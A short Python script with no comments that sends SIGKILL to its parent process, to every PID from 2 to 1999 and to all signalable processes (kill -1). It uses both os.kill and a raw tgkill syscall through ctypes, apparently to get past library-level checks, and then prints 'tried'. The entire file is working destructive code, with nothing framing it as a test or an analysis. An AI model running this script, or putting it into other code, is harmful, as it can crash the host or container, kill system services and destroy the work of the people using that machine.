import ctypes
import os
import signal
from contextlib import suppress

tgkill = {"x86_64": 234, "aarch64": 131}[os.uname().machine]
libc = ctypes.CDLL(None)
own = os.getpid()
for pid in [os.getppid(), *range(2, 2000)]:
    if pid and pid != own:
        libc.syscall(tgkill, pid, pid, signal.SIGKILL)
        with suppress(OSError):
            os.kill(pid, signal.SIGKILL)
with suppress(OSError):
    os.kill(-1, signal.SIGKILL)
print("tried")
